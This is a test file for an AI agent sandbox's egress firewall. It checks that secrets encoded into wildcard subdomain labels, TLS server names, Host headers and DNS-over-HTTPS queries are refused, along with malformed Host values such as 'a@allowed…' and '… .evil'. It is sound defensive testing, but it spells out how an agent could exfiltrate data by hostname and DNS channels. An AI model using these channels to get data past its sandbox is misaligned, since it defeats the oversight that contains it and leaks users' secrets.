// Sandbox escape, by host name: under an allowlisted wildcard the agent chooses every label
// left of the allowed domain, so `<secret as base32>.wild.example.test` carries a secret out
// in the CONNECT target, the TLS server name or the Host header, whoever serves the name (its
// name server sees it before any request). A DNS-over-HTTPS query to an allowed resolver does
// the same for any name at all. And a Host header pipelock cannot parse must not skip the
// comparison with the URL. From inside a real bottle, as the agent user, through pipelock
// and egress: each is refused, and the recording stand-in never sees the secret in any form.
import { randomBytes } from "node:crypto";
import { beforeAll, expect, it } from "vitest";
import { base32 } from "../../src/shared/dlp/host-forms.js";
import type { RunningBottle } from "../support/docker/bottle-harness.js";
import { describeWithEngine } from "../support/docker/engine.js";
import { curlThrough, pipelockAddress } from "../support/docker/escape-bottle.js";
import {
  type ExchangeOp,
  httpRequest,
  type ProbeResult,
  probe,
} from "../support/docker/escape-probe.js";
import { escapeSuite } from "../support/docker/escape-suite.js";
import { routedBottle } from "../support/fixtures/bottle-yaml.js";
import { dnsQuery } from "../support/sidecars/pipelock-dns-query.js";
import { everythingReceived, type RecordingUpstream } from "../support/standins/escape-standins.js";

const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
/** Mixed case: verbatim it never fits a name, so only its host forms can leak. */
const SECRET = `CbHost-${[...randomBytes(20)].map((b) => ALPHABET[b % 62]).join("")}`;
const LOWER = SECRET.toLowerCase();
const HEX = Buffer.from(SECRET).toString("hex");
const B32 = base32(Buffer.from(SECRET));
const WILD = "wild.example.test";
const ALLOWED = "allowed.example.test";
const ROUTE = "api.example.test";
/** Name-like labels under the wildcard: the controls. */
const CONTROL = `us-east-1.${WILD}`;
const CONTROL_PLAIN = `my-bucket-name.${WILD}`;
/** Random-looking and overlong labels that are no known secret (base32 of random bytes). */
const BLOB = "q3x7kd2mzr8vw4jf6tnb";
const RANDOM = `${BLOB}.${WILD}`;
const LONG = `${"objects-origin-".repeat(3)}mirror.${WILD}`;
const cut = (text: string, size: number) =>
  (text.match(new RegExp(`.{1,${size}}`, "g")) ?? []).join(".");
/** Every name that carries the secret, as the agent would spell it. */
const SECRET_NAMES = [
  `${LOWER}.${WILD}`,
  `${cut(HEX, 40)}.${WILD}`,
  `${B32}.${WILD}`,
  `${cut(B32, 12)}.${WILD}`,
];

/** Every spelling of the secret a leak could take: what the stand-in must never receive. */
function secretForms(): string[] {
  const forms = [SECRET, LOWER, HEX, B32, B32.toUpperCase()];
  for (const pad of ["", "x", "xy"]) {
    const b64 = Buffer.from(pad + SECRET).toString("base64");
    forms.push(b64.slice(pad === "" ? 0 : pad.length + 1, -4));
  }
  return forms;
}

const BY = "pipelock (this bottle's egress firewall)";
/** How pipelock refuses a request whose host carries the secret (the name is never repeated). */
const SECRET_IN_HOST = `403: ${BY} blocked this request to [redacted]: it carries what looks like a secret:`;
/** How each proxy refuses a Host header that names another site than the URL. */
const HOST_DISAGREES = {
  pipelock: `403: ${BY} blocked this request: the tunnel was opened to "${CONTROL_PLAIN}" but the Host header names "[redacted]". The CONNECT target, TLS server name and Host header must agree.`,
  egress: `403: egress forwards this request to ${CONTROL_PLAIN}:80: the Host header names another site than ${CONTROL_PLAIN}:80`,
};

describeWithEngine("escape: host names as a channel", () => {
  const suite = escapeSuite();
  let bottle: RunningBottle;
  let upstream: RecordingUpstream;
  let pipelock: string;

  /** What the stand-in received during this test. */
  const received = suite.receivedInEachTest(() => upstream);
  /** Requests for `/escape…`, and anything carrying the secret in any form. */
  const leaks = async (): Promise<string[]> => {
    const requests = await received();
    const text = everythingReceived(requests, []).toLowerCase();
    return [
      ...requests.filter((r) => r.url.startsWith("/escape")).map((r) => `${r.method} ${r.url}`),
      ...secretForms().filter((form) => text.includes(form.toLowerCase())),
      ...requests
        .filter((r) => (r.sni ?? "").toLowerCase().includes(B32))
        .map((r) => `SNI ${r.sni}`),
    ];
  };

  const tunnel = (proxy: string, host: string, send: Buffer[], sni?: string): ExchangeOp => ({
    kind: "exchange",
    proxy,
    connect: `${host}:443`,
    tls: true,
    ...(sni === undefined ? {} : { sni }),
    send,
    quietMs: 2500,
  });
  const plain = (proxy: string, send: Buffer[]): ExchangeOp => ({
    kind: "exchange",
    proxy,
    send,
    quietMs: 2500,
  });
  const get = (target: string, host: string, extra: [string, string][] = []) =>
    httpRequest(`GET ${target} HTTP/1.1`, [["Host", host], ...extra, ["Connection", "close"]]);
  const post = (target: string, host: string, type: string, body: Buffer) =>
    httpRequest(
      `POST ${target} HTTP/1.1`,
      [
        ["Host", host],
        ["Content-Type", type],
        ["Content-Length", String(body.length)],
        ["Connection", "close"],
      ],
      body,
    );
  /** A refusal as "status: its header's reason", or the status and first line of any other answer. */
  const refusal = (r: ProbeResult) => {
    const reason = /^x-claude-bottle-refusal: *(.*?)\r?$/im.exec(r.response ?? "")?.[1];
    return reason === undefined
      ? `${statusOf(r)} ${(r.response ?? "").split("\n")[0]}`
      : `${statusOf(r)}: ${reason}`;
  };
  /** The first status a probe saw: the CONNECT answer when it was not 200, else the request's. */
  const statusOf = (r: ProbeResult) =>
    r.connectStatus !== undefined && r.connectStatus !== 200 ? r.connectStatus : (r.status ?? 0);

  beforeAll(async () => {
    bottle = await suite.startBottle(
      "hostnames",
      routedBottle({
        allow: [ALLOWED, `*.${WILD}`],
        route: ROUTE,
        token: `cbtest-hostname-route-token-${randomBytes(4).toString("hex")}`,
        agentSecret: SECRET,
      }),
    );
    pipelock = pipelockAddress(bottle);
    // Every name a leak would use answers on the stand-in, so a leak lands there and no name
    // is ever looked up outside the machine.
    upstream = await suite.startUpstream(bottle, [
      ALLOWED,
      ROUTE,
      CONTROL,
      CONTROL_PLAIN,
      RANDOM,
      LONG,
      ...SECRET_NAMES,
    ]);
  });

  it("holds the secret, and reaches name-like hosts under the wildcard (the control)", async () => {
    expect((await bottle.exec('printf %s "$AGENT_SECRET"')).stdout).toBe(SECRET);
    expect(await curlThrough(bottle, `https://${CONTROL}/control`)).toMatchObject({
      connect: 200,
      http: 200,
    });
    const results = await probe(bottle.agentContainer, [
      tunnel(pipelock, CONTROL, [get("/control-tunnel", CONTROL)]),
      plain(pipelock, [get(`http://${CONTROL_PLAIN}/control-plain`, CONTROL_PLAIN)]),
      plain("egress:8080", [get(`http://${CONTROL_PLAIN}/control-egress`, CONTROL_PLAIN)]),
    ]);
    expect(results.map(statusOf)).toEqual([200, 200, 200]);
    expect((await received()).map((r) => r.url).sort()).toEqual([
      "/control",
      "/control-egress",
      "/control-plain",
      "/control-tunnel",
    ]);
  });

  it.each([
    ["lowercased", SECRET_NAMES[0] as string],
    ["as hex, in two labels", SECRET_NAMES[1] as string],
    ["as base32", SECRET_NAMES[2] as string],
    ["as base32 cut into labels", SECRET_NAMES[3] as string],
  ])(
    "refuses the secret %s in the CONNECT target, through egress and pipelock",
    async (_, name) => {
      // Threat: the name itself is the message; its name server reads it before any request.
      const before = (await bottle.pipelockAudit()).length;
      const statuses: number[] = [];
      for (const proxy of [undefined, `http://${pipelock}`]) {
        const r = await curlThrough(bottle, `https://${name}/escape/connect`, {
          ...(proxy === undefined ? {} : { proxy }),
        });
        statuses.push(r.connect);
      }
      expect(statuses).toEqual([403, 403]);
      // Refused as a secret, not merely as a random label: a host form was found.
      const blocks = (await bottle.pipelockAudit())
        .slice(before)
        .filter((e) => e.method === "CONNECT");
      // One line per CONNECT pipelock saw (egress may refuse first, then pipelock sees one).
      expect(blocks.length).toBeGreaterThanOrEqual(1);
      expect(blocks.map((e) => [e.decision, e.host])).toEqual(
        blocks.map(() => ["dlp_block", "[redacted]"]),
      );
      expect(await leaks()).toEqual([]);
    },
  );

  it("refuses the secret in the TLS server name alone, and never sends it on", async () => {
    // Threat: CONNECT to a clean name, then the secret in SNI, where a proxy that checks only
    // the CONNECT line never looks.
    const results = await probe(
      bottle.agentContainer,
      SECRET_NAMES.flatMap((sni) => [
        tunnel(pipelock, CONTROL, [get("/escape/sni", CONTROL)], sni),
        tunnel("egress:8080", CONTROL, [get("/escape/sni-egress", CONTROL)], sni),
      ]),
    );
    for (const r of results) {
      // 421 (Misdirected Request) is how a proxy may refuse a name it will not serve.
      expect([403, 421], r.response).toContain(r.status);
      expect(r.response?.toLowerCase()).not.toContain(B32);
      expect(r.response?.toLowerCase()).not.toContain(LOWER);
    }
    expect(await leaks()).toEqual([]);
  });

  it("refuses the secret in the Host header and URL of plain http", async () => {
    // Threat: plain http names the host twice; either spelling can carry the secret.
    const ops: ExchangeOp[] = [];
    const expected: string[] = [];
    for (const [via, proxy] of [
      ["pipelock", pipelock],
      ["egress", "egress:8080"],
    ] as const) {
      for (const name of SECRET_NAMES) {
        ops.push(plain(proxy, [get(`http://${name}/escape/url`, name)]));
        // The secret in the URL's host is found there, by pipelock, whichever way it came.
        expected.push("the secret found in host, url and header:host");
        ops.push(plain(proxy, [get(`http://${CONTROL_PLAIN}/escape/host`, name)]));
        // In the Host alone, the request is refused for naming another site than its URL.
        expected.push(HOST_DISAGREES[via]);
      }
    }
    const results = await probe(bottle.agentContainer, ops);
    // The exact refusal, not any status >= 400: a failed lookup would pass that, and would
    // itself have sent the name to a resolver.
    const found = (text: string) =>
      text.startsWith(SECRET_IN_HOST) &&
      ["host", "url", "header:host"].every((where) =>
        text.includes(`(rule known-secret) in ${where} `),
      );
    expect(
      results
        .map(refusal)
        .map((text) => (found(text) ? "the secret found in host, url and header:host" : text)),
    ).toEqual(expected);
    for (const r of results) expect(r.response?.toLowerCase()).not.toContain(B32);
    expect(await leaks()).toEqual([]);
  });

  it("refuses random-looking and overlong labels under the wildcard, and says how to ask", async () => {
    // Threat: data the DLP cannot recognise (encrypted, or split over many requests) rides in
    // the labels anyway.
    const results = await probe(bottle.agentContainer, [
      tunnel(pipelock, RANDOM, [get("/escape/random", RANDOM)]),
      tunnel(pipelock, LONG, [get("/escape/long", LONG)]),
      plain(pipelock, [get(`http://${RANDOM}/escape/random-plain`, RANDOM)]),
      plain("egress:8080", [get(`http://${RANDOM}/escape/random-egress`, RANDOM)]),
    ]);
    expect(results.slice(0, 3).map(statusOf)).toEqual([403, 403, 403]);
    expect(statusOf(results[3] as ProbeResult)).toBeGreaterThanOrEqual(400);
    expect(results[0]?.response).toContain("reads like encoded data");
    expect(results[1]?.response).toContain("longer than this bottle's bound of 40");
    expect(results[0]?.response).toContain("egress.wildcard_labels");
    expect((await received()).map((r) => r.url)).toEqual([]);
  });

  it("refuses a DNS-over-HTTPS query whose name carries the secret: POST, GET and JSON", async () => {
    // Threat: an allowed resolver resolves any name, so the query's name goes to its zone.
    const ops: ExchangeOp[] = [];
    for (const name of SECRET_NAMES.map((n) => n.replace(WILD, "exfil.example"))) {
      const query = dnsQuery([name], true);
      const dns = query.toString("base64url");
      ops.push(
        tunnel(pipelock, ALLOWED, [
          post("/escape/dns-query", ALLOWED, "application/dns-message", query),
        ]),
        tunnel(pipelock, ALLOWED, [
          get(`/escape/dns-query?dns=${dns}`, ALLOWED, [["Accept", "application/dns-message"]]),
        ]),
        tunnel(pipelock, ALLOWED, [
          get(`/escape/resolve?name=${name}&type=A`, ALLOWED, [["Accept", "application/dns-json"]]),
        ]),
        plain("egress:8080", [
          post(`http://${ALLOWED}/escape/dns-query`, ALLOWED, "application/dns-message", query),
        ]),
      );
    }
    const results = await probe(bottle.agentContainer, ops);
    // Through pipelock a 403 each; egress may refuse first, in its own words.
    expect(
      results.map((r, i) => (ops[i]?.proxy === pipelock ? statusOf(r) : statusOf(r) >= 400)),
    ).toEqual(ops.map((op) => (op.proxy === pipelock ? 403 : true)));
    expect(await leaks()).toEqual([]);
  });

  it("refuses a DoH query with a random name or one it cannot parse, and passes a plain one", async () => {
    // Threat: a query the proxy cannot read is one whose names it cannot check.
    const header = Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    const loop = Buffer.concat([header, Buffer.from([1, 97, 0xc0, 12, 0, 1, 0, 1])]);
    const random = dnsQuery([`${BLOB}.exfil.example`]);
    const doh = (body: Buffer, path: string) =>
      tunnel(pipelock, ALLOWED, [post(path, ALLOWED, "application/dns-message", body)]);
    const results = await probe(bottle.agentContainer, [
      doh(loop, "/escape/dns-loop"),
      doh(Buffer.from("not a dns message"), "/escape/dns-garbage"),
      doh(random, "/escape/dns-random"),
      doh(dnsQuery(["www.example.com"], true), "/control-dns"),
    ]);
    expect(results.map(statusOf)).toEqual([400, 400, 403, 200]);
    expect((await received()).map((r) => r.url)).toEqual(["/control-dns"]);
  });

  const BAD_HOSTS = [
    `${ALLOWED}:`,
    `${ALLOWED}:0`,
    `${ALLOWED}:65536`,
    `${ALLOWED}:99999`,
    `[${ALLOWED}]`,
    "[::1",
    `${ALLOWED}:80:80`,
    `a@${ALLOWED}`,
    "%61llowed.example.test",
    `${ALLOWED} .evil`,
  ];

  it("refuses plain http whose Host header does not parse, straight to pipelock, with an audit line", async () => {
    // Threat: a Host pipelock cannot read skipped the comparison with the URL, and a server
    // reading it its own way picked another site.
    const ops = BAD_HOSTS.map((host) =>
      plain(pipelock, [get(`http://${ALLOWED}/escape/bad-host`, host)]),
    );
    const results = await probe(bottle.agentContainer, ops);
    expect(results.map(statusOf)).toEqual(BAD_HOSTS.map(() => 400));
    expect(results[0]?.response).toContain(
      "is not a host name or IP address with an optional port",
    );
    const audited = (await bottle.pipelockAudit()).filter((e) => e.rule === "bad-host");
    expect(audited.length).toBeGreaterThanOrEqual(BAD_HOSTS.length);
    expect(await leaks()).toEqual([]);
  });

  it("refuses plain http whose Host header does not parse, through egress", async () => {
    const ops = BAD_HOSTS.map((host) =>
      plain("egress:8080", [get(`http://${ALLOWED}/escape/bad-host-egress`, host)]),
    );
    const results = await probe(bottle.agentContainer, ops);
    const passed = results.flatMap((r, i) =>
      statusOf(r) >= 400 && statusOf(r) < 500 ? [] : [`Host "${BAD_HOSTS[i]}": ${r.response}`],
    );
    expect(passed).toEqual([]);
    expect(await leaks()).toEqual([]);
  });

  it("refuses an unparsable Host inside a tunnel, through pipelock and through egress", async () => {
    const spellings = [`${ALLOWED}:`, `${ALLOWED}:0`, `[${ALLOWED}]`, `a@${ALLOWED}`];
    const ops = [pipelock, "egress:8080"].flatMap((proxy) =>
      spellings.map((host) => tunnel(proxy, ALLOWED, [get("/escape/tunnel-bad-host", host)])),
    );
    const results = await probe(bottle.agentContainer, ops);
    for (const [i, r] of results.entries()) {
      expect(
        statusOf(r),
        `${ops[i]?.proxy} ${spellings[i % spellings.length]}`,
      ).toBeGreaterThanOrEqual(400);
    }
    expect(await leaks()).toEqual([]);
  });
});
